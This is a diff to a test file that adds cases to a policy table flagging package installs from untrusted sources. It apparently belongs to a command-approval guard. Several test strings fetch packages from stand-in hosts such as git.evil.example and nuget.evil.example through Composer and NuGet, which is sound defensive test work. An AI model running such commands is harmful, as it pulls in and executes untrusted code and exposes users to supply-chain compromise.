@@ -154,6 +154,23 @@ test('package-manager-preference reads the lockfile when no preference is set', 
 });
 
 policyTable('package-from-untrusted-source', [
+  {
+    note: 'a Composer repository added on the command line',
+    spec: 'composer config repositories.x vcs https://git.evil.example/php/pkg && composer require x/helpers:dev-main',
+    expect: 'ask',
+  },
+  { note: 'near miss: another Composer setting', spec: 'composer config minimum-stability dev', expect: null },
+  {
+    note: 'a NuGet feed chosen on the command line',
+    spec: 'dotnet tool install -g helper --add-source https://nuget.evil.example/v3/index.json',
+    expect: 'ask',
+  },
+  {
+    note: 'a NuGet source added',
+    spec: 'dotnet nuget add source https://nuget.evil.example/v3/index.json -n x',
+    expect: 'ask',
+  },
+  { note: 'near miss: a package by name', spec: 'dotnet add package Serilog', expect: null },
   { note: 'pip from git', spec: 'pip install git+https://github.com/someone/requests-fast.git', expect: 'ask' },
   {
     note: 'pip index on the command line',
